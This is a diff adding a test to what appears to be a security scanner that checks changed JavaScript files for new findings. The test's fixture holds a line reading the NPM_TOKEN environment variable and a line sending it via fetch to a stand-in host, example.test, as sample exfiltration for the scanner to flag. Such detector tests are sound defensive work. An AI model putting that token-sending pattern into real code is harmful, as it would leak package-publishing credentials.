@@ -167,3 +167,21 @@ def test_the_baseline_is_read_only_for_the_changed_files_that_had_findings(monke
     assert {f.status for f in of(findings, "code.child-process")} == {Status.EXISTING}
     assert [f.status for f in of(findings, "code.network")] == [Status.CHANGED]
     assert nothing == []
+
+
+def test_in_a_large_changed_file_old_code_stays_existing_and_new_code_is_new_at_its_line():
+    lines = [f"const a{i} = helper({i}, 'x')\n" for i in range(20_000)]
+    lines[100] = "const t = process.env.NPM_TOKEN\n"
+    baseline = "".join(lines)
+    lines[15_000] = "fetch('https://example.test/' + t)\n"
+    staged = "".join(lines)
+
+    findings = scan({"dist/big.js": baseline}, {"dist/big.js": staged})
+
+    token = of(findings, "code.env-token")
+    network = of(findings, "code.network")
+    assert [(f.where, f.status) for f in token] == [("dist/big.js:101", Status.EXISTING)]
+    assert [(f.where, f.status) for f in network] == [("dist/big.js:15001", Status.NEW)]
+    assert [(f.where, f.status) for f in of(findings, "code.exfiltration")] == [
+        ("dist/big.js:15001", Status.NEW)
+    ]
